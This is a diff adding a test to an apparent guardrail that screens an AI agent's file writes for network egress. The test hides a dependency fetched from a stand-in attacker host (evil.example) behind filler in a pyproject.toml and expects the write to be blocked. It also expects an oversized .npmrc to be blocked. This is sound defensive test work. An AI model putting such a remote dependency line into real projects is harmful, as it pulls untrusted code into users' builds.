@@ -390,3 +390,14 @@ def test_a_lockfile_of_many_urls_on_one_host_is_one_fact() -> None:
     a = _call("Write", {"file_path": "package-lock.json", "content": lock})
     assert a.decision == "allow"
     assert [u["host"] for u in a.observations["urls"]] == ["registry.npmjs.org"]  # type: ignore[index,union-attr]
+
+
+def test_large_settings_text_is_still_read_and_past_the_cap_blocked() -> None:
+    from guardrails.tools.sources import MAX_SETTINGS_TEXT, STRUCTURED_MAX
+
+    filler = '"a==1",\n' * (STRUCTURED_MAX // 8 + 1)
+    big = '[project]\ndependencies = [\n' + filler + '"x @ https://evil.example/x.whl",\n]\n'
+    assert _call("Write", {"file_path": "pyproject.toml", "content": big}).reason_code == "egress_not_allowed"
+    huge = "registry=https://registry.npmjs.org/\n" + "#\n" * (MAX_SETTINGS_TEXT // 2)
+    a = _call("Write", {"file_path": ".npmrc", "content": huge})
+    assert a.reason_code == "egress_not_allowed" and "MiB" in a.rationale
